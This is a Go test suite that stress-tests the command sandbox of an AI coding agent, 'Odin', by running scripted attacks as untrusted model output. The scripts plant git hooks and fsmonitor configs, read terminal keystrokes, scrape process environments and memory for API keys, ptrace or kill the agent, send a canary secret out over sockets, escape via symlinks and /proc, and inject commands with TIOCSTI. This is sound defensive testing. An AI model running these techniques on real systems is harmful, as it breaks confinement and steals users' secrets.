package sandbox

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"
)

// The attack round of 2026-11-29 (docs/sandbox.md, "Attack round"): each
// test plays untrusted model output against both backends and is graded by
// a side effect — a canary file, a secret in the output, a process still
// alive — never by the wording of a refusal.

// TestAttackAddedDirGit: a directory added with --add-dir is writable, but
// its .git is as much git's as the project's: a command that wrote
// core.fsmonitor or a hook there would run, outside any sandbox, at the
// user's next `git status` in it.
func TestAttackAddedDirGit(t *testing.T) {
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git not installed")
	}
	for _, mode := range kinds(t) {
		t.Run(string(mode), func(t *testing.T) {
			p := newProject(t)
			lib := filepath.Join(p.outside, "lib")
			if out, err := exec.Command(git, "init", "-q", lib).CombinedOutput(); err != nil {
				t.Fatalf("git init: %v\n%s", err, out)
			}
			write(t, filepath.Join(lib, "lib.go"), "package lib\n")
			config := filepath.Join(lib, ".git", "config")
			before, err := os.ReadFile(config)
			if err != nil {
				t.Fatal(err)
			}
			canary := filepath.Join(p.outside, "added-dir-git-ran")
			l := New(Options{Mode: mode, Root: p.root, AddDirs: []string{lib}, Protected: []string{p.state},
				CacheDir: CacheDirFor(p.state, p.root), Environ: baseEnv})
			script := `cd ` + lib + ` && echo changed > lib.go
printf '[core]\n\tfsmonitor = "touch ` + canary + `; false"\n' >> .git/config
printf '#!/bin/sh\ntouch ` + canary + `\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
git config core.hooksPath "` + lib + `/hooks" ; mkdir -p hooks && cp .git/hooks/pre-commit hooks/ 2>/dev/null
cd .git && printf '[core]\n\tpager = "touch ` + canary + `"\n' >> /proc/self/cwd/config`
			out, _ := run(t, l, true, script)
			if b, _ := os.ReadFile(filepath.Join(lib, "lib.go")); string(b) != "changed\n" {
				t.Fatalf("the added directory is not writable at all (the test proves nothing):\n%s", out)
			}
			if after, _ := os.ReadFile(config); !bytes.Equal(before, after) {
				t.Errorf("the added directory's .git/config changed:\n%s", after)
			}
			// The user's own git, unsandboxed, in the added directory.
			if usersGitRuns(git, lib, canary) {
				t.Errorf("the user's git ran what the command planted in the added directory's .git:\n%s", out)
			}
		})
	}
}

// TestAttackTerminalKeystrokes: Odin runs in the user's terminal, a pty the
// user owns. A command that opens it (or any other terminal of the user)
// for reading takes the keys typed there — a password at a sudo prompt in
// another window, the user's next message — and one that could write it
// could type into it.
func TestAttackTerminalKeystrokes(t *testing.T) {
	for _, mode := range append(kinds(t), ModeOff) {
		t.Run(string(mode), func(t *testing.T) {
			master, slave, err := pty.Open()
			if err != nil {
				t.Skipf("no pty here: %v", err)
			}
			defer master.Close()
			defer slave.Close()
			p := newProject(t)
			l := p.launcher(mode, baseEnv())
			// Open the user's terminal (a real attack would try every
			// /dev/pts/N; this one keeps to the test's own, so as not to
			// read the keys of other terminals on the machine), report
			// whether it opened, then print whatever is read from it.
			script := `n=0; for f in "$1" /dev/tty; do
  if exec 3<"$f" 2>/dev/null; then n=$((n+1)); (timeout 3 cat <&3 &) ; exec 3<&-; fi
done
echo "opened $n"; sleep 3`
			proc, err := l.Command(t.Context(), Spec{Args: []string{"bash", "-c", script, "attack", slave.Name()}, Write: true})
			if err != nil {
				t.Fatal(err)
			}
			defer proc.Release()
			var out syncBuffer
			proc.Stdout, proc.Stderr = &out, &out
			if err := proc.Start(); err != nil {
				t.Fatal(err)
			}
			go func() { _, _ = io.Copy(io.Discard, master) }()
			// The user types while the command runs.
			const secret = "hunter2-typed-secret"
			for i := 0; i < 200 && !strings.Contains(out.String(), "opened"); i++ {
				time.Sleep(10 * time.Millisecond)
			}
			for i := 0; i < 5; i++ {
				_, _ = master.Write([]byte(secret + "\n"))
				time.Sleep(100 * time.Millisecond)
			}
			_ = proc.Wait()
			got := out.String()
			if mode == ModeOff {
				// The control: unconfined, the attack works, so the
				// test can fail.
				if !strings.Contains(got, secret) {
					t.Errorf("unconfined, the attack read nothing: it proves nothing sandboxed either:\n%s", got)
				}
				return
			}
			if strings.Contains(got, secret) {
				t.Errorf("a sandboxed command read keys typed at the user's terminal:\n%s", got)
			}
		})
	}
}

// syncBuffer is a bytes.Buffer safe for a writer and a reader at once.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// TestAttackOdinProcess: Odin holds the provider keys in its environment
// and memory. A command must neither read them (/proc/PID/environ,
// /proc/PID/mem, ptrace) nor stop or kill Odin. Odin is played by a child
// of the test binary that carries a secret in its environment.
func TestAttackOdinProcess(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 not installed")
	}
	type run struct {
		mode Mode
		// nobody runs Odin (and so the command) as an unprivileged user,
		// as users run it: as root the command's missing capabilities
		// keep it out of Odin's /proc/PID whatever Odin's dumpable flag.
		nobody bool
		// control keeps Odin dumpable (ODIN_DUMPABLE=1): without a PID
		// namespace the attack then reads Odin's environment, which
		// shows the test can fail.
		control bool
	}
	// Unconfined (sandbox: off, or auto with neither backend) only Odin's
	// dumpable flag keeps its /proc/PID closed; the control shows the
	// attack reading it when Odin stays dumpable. As root, Odin's
	// capabilities would open it anyway: the unconfined runs are a user's.
	asRoot := os.Geteuid() == 0
	var runs []run
	for _, mode := range kinds(t) {
		runs = append(runs, run{mode: mode})
		if mode == ModeLandlock && asRoot {
			runs = append(runs, run{mode: mode, nobody: true})
		}
	}
	runs = append(runs, run{mode: ModeOff, nobody: asRoot}, run{mode: ModeOff, nobody: asRoot, control: true})
	exe := nobodyExe(t)
	for _, r := range runs {
		name := string(r.mode)
		if r.nobody {
			name += "-nobody"
		}
		if r.control {
			name += "-dumpable-control"
		}
		t.Run(name, func(t *testing.T) {
			const secret = "sk-odin-process-canary-5150"
			cmd := exec.Command(exe, "-test.run=^$")
			cmd.Env = append(os.Environ(), "ODIN_SANDBOX_TEST_ATTACK="+string(r.mode), "OPENAI_API_KEY="+secret)
			if r.control {
				cmd.Env = append(cmd.Env, dumpableEnv+"=1")
			}
			if r.nobody {
				cmd.SysProcAttr = nobody
				cmd.Dir = "/"
			}
			var out bytes.Buffer
			cmd.Stdout, cmd.Stderr = &out, &out
			err := cmd.Run()
			got := out.String()
			if r.control {
				if !strings.Contains(got, secret) {
					t.Errorf("with Odin dumpable the attack read nothing: it proves nothing:\n%s", got)
				}
				return
			}
			if strings.Contains(got, secret) {
				t.Errorf("the command read Odin's secret:\n%s", got)
			}
			if r.mode == ModeOff {
				return // unconfined, Odin is spared the signals
			}
			if err != nil || !strings.Contains(got, "odin survived") {
				t.Errorf("Odin did not survive the command (%v):\n%s", err, got)
			}
			if !strings.Contains(got, "attack done") {
				t.Errorf("the attack did not run to its end:\n%s", got)
			}
		})
	}
}

// nobody is the unprivileged user the tests run Odin as when they run as
// root: the kernel exempts root from checks a user meets.
var nobody = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}

// nobodyExe is the test binary where nobody may run it: as root, a copy
// (the build directory is root's alone).
func nobodyExe(t *testing.T) string {
	t.Helper()
	if os.Geteuid() != 0 {
		return os.Args[0]
	}
	exe := filepath.Join(t.TempDir(), "sandbox.test")
	data, err := os.ReadFile(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	write(t, exe, string(data))
	for dir := exe; dir != "/"; dir = filepath.Dir(dir) {
		if err := os.Chmod(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if dir == os.TempDir() || filepath.Dir(dir) == os.TempDir() {
			break
		}
	}
	return exe
}

// odinProcessAttack is the script TestAttackOdinProcess runs sandboxed:
// it reads the environment and memory of every process it can see, then
// ptraces and signals Odin.
const odinProcessAttack = `
for e in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$e" 2>/dev/null; done
python3 - <<'EOF'
import ctypes, os, re, signal
libc = ctypes.CDLL(None, use_errno=True)
odin = int(os.environ.get("ODIN_PID", "0"))
pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
for pid in pids + [odin]:
    if pid in (0, os.getpid()):
        continue
    try:
        maps = open("/proc/%d/maps" % pid).read()
        mem = open("/proc/%d/mem" % pid, "rb")
        for m in re.finditer(r"^([0-9a-f]+)-([0-9a-f]+) rw.p .*$", maps, re.M):
            lo, hi = int(m.group(1), 16), int(m.group(2), 16)
            try:
                mem.seek(lo)
                chunk = mem.read(min(hi - lo, 1 << 22))
                for k in re.finditer(rb"sk-[a-z0-9-]+", chunk):
                    print("mem", pid, k.group(0).decode())
            except OSError:
                pass
    except OSError:
        pass
# Only Odin is attacked: on a machine shared with other work, a sandbox
# that failed must not take down unrelated processes with the test.
if os.environ.get("SPARE_ODIN"):
    print("attack done")
    raise SystemExit
if libc.ptrace(16, odin, 0, 0) == 0:  # PTRACE_ATTACH
    print("attached", odin)
for sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(odin, sig)
        print("signalled", odin, sig)
    except OSError as e:
        print("signal", odin, sig, e)
print("attack done")
EOF
`

// actAsAttackedOdin plays Odin for TestAttackOdinProcess: it runs the
// attack sandboxed, tells it its own PID (which a real command finds by
// walking up /proc), and reports that it survived.
func actAsAttackedOdin(mode Mode) int {
	root, err := os.MkdirTemp("", "odin-attack-root-")
	if err != nil {
		fmt.Println(err)
		return 1
	}
	defer os.RemoveAll(root)
	l := New(Options{Mode: mode, Root: root, Environ: func() []string {
		return []string{"PATH=" + os.Getenv("PATH"), "HOME=" + os.Getenv("HOME"), "LANG=C.UTF-8"}
	}})
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	env := []string{fmt.Sprintf("ODIN_PID=%d", os.Getpid())}
	if mode == ModeOff {
		// Unconfined, the command could stop Odin: only reading is tried.
		env = append(env, "SPARE_ODIN=1")
	}
	p, err := l.Command(ctx, Spec{Args: []string{"bash", "-c", odinProcessAttack}, Write: true, Env: env})
	if err != nil {
		fmt.Println(err)
		return 1
	}
	defer p.Release()
	p.Stdout, p.Stderr = os.Stdout, os.Stdout
	if err := p.Run(); err != nil {
		fmt.Println("command:", err)
	}
	fmt.Println("odin survived")
	return 0
}

// TestAttackNetworkEscape: with no domain allowed a command has no
// network. A listener on the host's loopback — where local DNS stubs,
// databases and dev servers wait — stands for the outside: no datagram
// (UDP over IPv4 and IPv6) and no TCP connection from the command may
// reach it.
func TestAttackNetworkEscape(t *testing.T) {
	for _, mode := range kinds(t) {
		t.Run(string(mode), func(t *testing.T) {
			p := newProject(t)
			l := p.launcher(mode, baseEnv())
			const secret = "exfil-canary-7777"
			var got syncBuffer
			var targets []string
			for _, network := range []string{"udp4", "udp6"} {
				addr := "127.0.0.1:0"
				if network == "udp6" {
					addr = "[::1]:0"
				}
				pc, err := net.ListenPacket(network, addr)
				if err != nil {
					t.Logf("%s: %v", network, err)
					continue
				}
				defer pc.Close()
				go func() {
					buf := make([]byte, 2048)
					for {
						n, _, err := pc.ReadFrom(buf)
						if err != nil {
							return
						}
						_, _ = got.Write(buf[:n])
					}
				}()
				targets = append(targets, "udp "+pc.LocalAddr().String())
			}
			ln, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			go func() {
				for {
					c, err := ln.Accept()
					if err != nil {
						return
					}
					_, _ = io.Copy(&got, c)
					c.Close()
				}
			}()
			targets = append(targets, "tcp "+ln.Addr().String())
			var script strings.Builder
			script.WriteString("import socket\n")
			for _, tg := range targets {
				kind, addr, _ := strings.Cut(tg, " ")
				host, port, _ := net.SplitHostPort(addr)
				fam, typ := "AF_INET", "SOCK_DGRAM"
				if strings.Contains(host, ":") {
					fam = "AF_INET6"
				}
				if kind == "tcp" {
					typ = "SOCK_STREAM"
				}
				fmt.Fprintf(&script, "try:\n s = socket.socket(socket.%s, socket.%s)\n s.connect((%q, %s))\n s.send(b%q)\n s.close()\n print('sent %s')\nexcept OSError as e:\n print('%s', e)\n", fam, typ, host, port, secret, tg, tg)
			}
			// ICMP echo needs no privilege where ping_group_range allows it.
			fmt.Fprintf(&script, "try:\n s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\n s.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0' + b%q, ('127.0.0.1', 0))\n print('icmp sent')\nexcept OSError as e:\n print('icmp', e)\n", secret)
			if _, err := exec.LookPath("python3"); err != nil {
				t.Skip("python3 not installed")
			}
			out, _ := run(t, l, true, "python3 -c '"+strings.ReplaceAll(script.String(), "'", `'\''`)+"'")
			time.Sleep(200 * time.Millisecond) // datagrams in flight on loopback
			if strings.Contains(got.String(), secret) {
				t.Errorf("the command reached a host listener:\n%s", out)
			}
		})
	}
}

// TestAttackNestedRepository: git looks for a repository in the directory
// it runs in before its parents, so a .git planted in a subdirectory — or
// the subdirectory itself laid out as a bare repository, which git accepts
// by default — is what the user's git (or a shell prompt showing the
// branch) obeys there, outside the sandbox. What a plain `git init` or
// `git init --bare` makes stays.
func TestAttackNestedRepository(t *testing.T) {
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git not installed")
	}
	for _, mode := range append(kinds(t), ModeOff) {
		t.Run(string(mode), func(t *testing.T) {
			p := newProject(t)
			canary := filepath.Join(p.outside, "nested-repo-ran")
			l := p.launcher(mode, baseEnv())
			evil := `"touch ` + canary + `; false"`
			script := `set -e
mkdir -p src/a/sub src/b/objects src/b/refs src/b/sub
git init -q src/a && git -C src/a config core.fsmonitor '` + evil + `'
echo 'ref: refs/heads/main' > src/b/HEAD
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = ` + strings.ReplaceAll(evil, `"`, `\"`) + `\n' > src/b/config
mkdir -p src/c/d && git init -q src/c/d && printf '#!/bin/sh\ntouch ` + canary + `\n' > src/c/d/.git/hooks/pre-commit && chmod +x src/c/d/.git/hooks/pre-commit
git init -q src/ok && git init -q --bare src/fixture.git
echo planted`
			proc, err := l.Command(t.Context(), Spec{Args: []string{"bash", "-c", script}, Write: true})
			if err != nil {
				t.Fatal(err)
			}
			out, err := proc.CombinedOutput()
			proc.Release()
			if err != nil || !strings.Contains(string(out), "planted") {
				t.Fatalf("the command could not plant (the test proves nothing): %v\n%s", err, out)
			}
			t.Logf("removed: %q", proc.Removed())
			// The user's git, unsandboxed, where the command planted.
			for _, dir := range []string{"src/a", "src/a/sub", "src/b", "src/b/sub", "src/c/d"} {
				for _, args := range [][]string{{"status"}, {"-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "x"}} {
					cmd := exec.Command(git, args...)
					cmd.Dir = filepath.Join(p.root, dir)
					_ = cmd.Run()
				}
			}
			if _, err := os.Stat(canary); err == nil {
				t.Errorf("the user's git ran a program the command planted in a nested repository")
			}
			for _, kept := range []string{"src/ok/.git/HEAD", "src/fixture.git/HEAD", "src/b/config"} {
				if _, err := os.Stat(filepath.Join(p.root, kept)); err != nil {
					t.Errorf("%s was removed, but a plain git init (or a file of the command's) is harmless: %v", kept, err)
				}
			}
		})
	}
}

// TestAttackExistingNestedRepository: a repository already nested in the
// project (a vendored clone, a test fixture) is git's too: a command may
// not write its config or hooks.
func TestAttackExistingNestedRepository(t *testing.T) {
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git not installed")
	}
	for _, mode := range kinds(t) {
		t.Run(string(mode), func(t *testing.T) {
			p := newProject(t)
			lib := filepath.Join(p.root, "vendor", "lib")
			if out, err := exec.Command(git, "init", "-q", lib).CombinedOutput(); err != nil {
				t.Fatalf("git init: %v\n%s", err, out)
			}
			// Under Landlock nothing new can be made directly beside a
			// protected path (see grantBeneath): the file exists.
			write(t, filepath.Join(lib, "lib.go"), "package lib\n")
			config := filepath.Join(lib, ".git", "config")
			before, _ := os.ReadFile(config)
			canary := filepath.Join(p.outside, "existing-nested-ran")
			l := p.launcher(mode, baseEnv())
			script := `cd vendor/lib && echo code > lib.go
printf '[core]\n\tfsmonitor = "touch ` + canary + `; false"\n' >> .git/config
printf '#!/bin/sh\ntouch ` + canary + `\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
mv .git .git.old; mkdir .git`
			out, _ := run(t, l, true, script)
			if b, _ := os.ReadFile(filepath.Join(lib, "lib.go")); string(b) != "code\n" {
				t.Fatalf("the nested repository's work tree is not writable (the test proves nothing):\n%s", out)
			}
			if after, _ := os.ReadFile(config); !bytes.Equal(before, after) {
				t.Errorf("the nested repository's config changed:\n%s", after)
			}
			if usersGitRuns(git, lib, canary) {
				t.Errorf("the user's git ran what the command planted in a nested repository:\n%s", out)
			}
		})
	}
}

// TestAttackRootLaidOutAsRepository: a project without .git whose top is
// laid out as a bare repository (HEAD, objects/, refs/, config) is one to
// git, with no .git for the top-level check to find.
func TestAttackRootLaidOutAsRepository(t *testing.T) {
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git not installed")
	}
	for _, mode := range append(kinds(t), ModeOff) {
		t.Run(string(mode), func(t *testing.T) {
			p := newProject(t)
			if err := os.RemoveAll(filepath.Join(p.root, ".git")); err != nil {
				t.Fatal(err)
			}
			canary := filepath.Join(p.outside, "root-layout-ran")
			l := p.launcher(mode, baseEnv())
			script := `mkdir -p objects refs && echo 'ref: refs/heads/main' > HEAD && printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch ` + canary + `; false"\n' > config`
			out, err := run(t, l, true, script)
			if err != nil && mode != ModeLandlock {
				// Landlock grants no new entry at the top of the root.
				t.Fatalf("the command could not plant (the test proves nothing): %v\n%s", err, out)
			}
			cmd := exec.Command(git, "status")
			cmd.Dir = filepath.Join(p.root, "src")
			_ = cmd.Run()
			if _, err := os.Stat(canary); err == nil {
				t.Errorf("the user's git ran the config planted at the project's top")
			}
		})
	}
}

// TestAttackWriteOutside: the ways around the writable view a command
// might try — a symlink or hard link planted in the project, /proc's
// views of the root and of other processes' directories, a rename out of
// the project, a mount in a user namespace of its own, a file left in
// /tmp for later — and none may change a file outside the project or
// leave one behind.
func TestAttackWriteOutside(t *testing.T) {
	for _, mode := range kinds(t) {
		t.Run(string(mode), func(t *testing.T) {
			p := newProject(t)
			l := p.launcher(mode, baseEnv())
			keep := filepath.Join(p.outside, "keep.txt")
			canary := filepath.Join(p.outside, "canary")
			tmpLeft := fmt.Sprintf("/tmp/odin-attack-left-%d", time.Now().UnixNano())
			t.Cleanup(func() { os.Remove(tmpLeft) })
			attacks := map[string]string{
				"symlink":         `ln -s ` + keep + ` src/sl; echo pwned > src/sl; ln -s ` + p.outside + ` src/dl; echo pwned > src/dl/canary`,
				"hard link":       `ln ` + keep + ` src/hl && echo pwned > src/hl`,
				"proc root":       `echo pwned > /proc/self/root` + canary + `; echo pwned > /proc/1/root` + canary,
				"proc cwd":        `for d in /proc/[0-9]*/cwd; do echo pwned > "$d/../canary-cwd" 2>/dev/null; echo pwned > "$d` + canary + `" 2>/dev/null; done; true`,
				"rename out":      `mv ` + keep + ` src/ ; mv src ` + p.outside + `/moved`,
				"own namespace":   `unshare -Urm sh -c 'mount -o remount,rw / 2>&1; mount --bind src ` + p.outside + ` 2>&1; echo pwned > ` + canary + `'`,
				"left in /tmp":    `echo pwned > ` + tmpLeft,
				"truncate via fd": `exec 3<` + keep + `; truncate -s0 /proc/self/fd/3; echo pwned > /proc/self/fd/3`,
			}
			for name, script := range attacks {
				out, _ := run(t, l, true, script)
				if b, err := os.ReadFile(keep); err != nil || string(b) != "original\n" {
					t.Errorf("%s: the file outside changed (%v): %q\n%s", name, err, b, out)
					write(t, keep, "original\n")
				}
				for _, f := range []string{canary, filepath.Join(p.outside, "moved"), filepath.Join(filepath.Dir(p.root), "canary-cwd"), tmpLeft} {
					if _, err := os.Lstat(f); err == nil {
						t.Errorf("%s: %s was created outside the project\n%s", name, f, out)
						os.RemoveAll(f)
					}
				}
				if _, err := os.Stat(filepath.Join(p.root, "src")); err != nil {
					t.Fatalf("%s: the project's src is gone: %v", name, err)
				}
			}
		})
	}
}

// TestAttackOdinPipes: Odin talks to its MCP servers, helpers and shell
// sessions over pipes. A command that opened one of Odin's descriptors
// through /proc/PID/fd could type into another agent's shell or forge an
// MCP server's answers. The test binary plays Odin and holds a pipe.
func TestAttackOdinPipes(t *testing.T) {
	for _, mode := range append(kinds(t), ModeOff) {
		t.Run(string(mode), func(t *testing.T) {
			r, w, err := os.Pipe()
			if err != nil {
				t.Fatal(err)
			}
			defer r.Close()
			defer w.Close()
			p := newProject(t)
			l := p.launcher(mode, baseEnv())
			const secret = "injected-into-odin-pipe"
			// Only the test's own descriptors: on a shared machine the
			// attack must not write into other programs' pipes.
			// (Fd would make r blocking, and the deadline below moot.)
			var rfd uintptr
			if rc, err := r.SyscallConn(); err != nil {
				t.Fatal(err)
			} else if err := rc.Control(func(fd uintptr) { rfd = fd }); err != nil {
				t.Fatal(err)
			}
			target := fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), w.Fd())
			out, _ := run(t, l, true, fmt.Sprintf(`echo %s > %s; timeout 1 cat /proc/%d/fd/%d`, secret, target, os.Getpid(), rfd))
			_ = r.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
			buf := make([]byte, 256)
			n, _ := r.Read(buf)
			// It reached the pipe if Odin reads it there, or if the
			// command read it back from the pipe's other end.
			got := strings.Contains(string(buf[:n]), secret) || strings.Contains(out, secret)
			if mode == ModeOff {
				// The control: unconfined, the attack works.
				if !got {
					t.Errorf("unconfined, nothing reached the pipe: the test proves nothing:\n%s", out)
				}
				return
			}
			if got {
				t.Errorf("the command wrote into Odin's pipe through %s:\n%s", target, out)
			}
		})
	}
}

// tiocstiAttack pushes a line into the input of every terminal it can
// reach: the controlling one, and its own standard descriptors. The
// shell reading that terminal would run the line once Odin exits.
const tiocstiAttack = `
import fcntl, os, termios
line = b"touch /tmp/tiocsti" + b"-canary\n"
fds = []
try:
    fds.append(os.open("/dev/tty", os.O_RDWR))
except OSError as e:
    print("no controlling terminal:", e.strerror)
fds += [0, 1, 2]
for fd in fds:
    try:
        for c in line:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
        print("pushed through", fd)
    except OSError as e:
        print("refused on", fd, e.strerror)
`

// actAsOdinInTerminal plays Odin run in a terminal for
// TestAttackTIOCSTI: its controlling terminal is the test's pty, which
// the command also gets as its standard input (a worse case than Odin's
// own, which gives commands /dev/null). Mode "control" runs the attack
// without a sandbox in Odin's session, to show the test can fail.
func actAsOdinInTerminal(mode Mode) int {
	args := []string{"python3", "-c", tiocstiAttack}
	if mode == "control" {
		cmd := exec.Command(args[0], args[1:]...)
		cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
		_ = cmd.Run()
		return 0
	}
	root, err := os.MkdirTemp("", "odin-attack-tty-")
	if err != nil {
		return 1
	}
	defer os.RemoveAll(root)
	l := New(Options{Mode: mode, Root: root, Environ: func() []string {
		return []string{"PATH=" + os.Getenv("PATH"), "HOME=" + os.Getenv("HOME"), "LANG=C.UTF-8"}
	}})
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	p, err := l.Command(ctx, Spec{Args: args, Write: true})
	if err != nil {
		fmt.Println(err)
		return 1
	}
	defer p.Release()
	p.Stdin, p.Stdout, p.Stderr = os.Stdin, os.Stdout, os.Stdout
	_ = p.Run()
	return 0
}

// TestAttackTIOCSTI: the command runs while Odin owns the user's terminal
// and may even hold it as a descriptor; TIOCSTI on it would type a line
// the user's shell runs after Odin exits. The line would be echoed on the
// terminal as it entered its input queue: the pty's master side must never
// show it.
func TestAttackTIOCSTI(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 not installed")
	}
	for _, mode := range append(kinds(t), "control") {
		t.Run(string(mode), func(t *testing.T) {
			master, slave, err := pty.Open()
			if err != nil {
				t.Skipf("no pty here: %v", err)
			}
			defer master.Close()
			cmd := exec.Command(os.Args[0], "-test.run=^$")
			cmd.Env = append(os.Environ(), "ODIN_SANDBOX_TEST_TTY="+string(mode))
			cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
			cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			slave.Close()
			var screen syncBuffer
			copied := make(chan struct{})
			go func() { _, _ = io.Copy(&screen, master); close(copied) }()
			_ = cmd.Wait()
			// The master reads EIO once the last slave descriptor closes.
			<-copied
			got := screen.String()
			injected := strings.Contains(got, "tiocsti-canary")
			if mode == "control" {
				if !injected {
					t.Errorf("unconfined in Odin's session, TIOCSTI pushed nothing: the test proves nothing:\n%s", got)
				}
				return
			}
			if injected || strings.Contains(got, "pushed through") {
				t.Errorf("the command pushed input into the user's terminal:\n%s", got)
			}
			if !strings.Contains(got, "refused on 0") {
				t.Errorf("the attack did not run:\n%s", got)
			}
		})
	}
}

// usersGitRuns runs the user's own git, unsandboxed, in dir as a user
// would after the command (status, then a commit of what changed) and
// says whether canary appeared: whether git ran something planted there.
func usersGitRuns(git, dir, canary string) bool {
	for _, args := range [][]string{{"status"}, {"-c", "user.name=u", "-c", "user.email=u@x", "commit", "-qam", "x"}} {
		cmd := exec.Command(git, args...)
		cmd.Dir = dir
		_ = cmd.Run()
	}
	_, err := os.Stat(canary)
	return err == nil
}
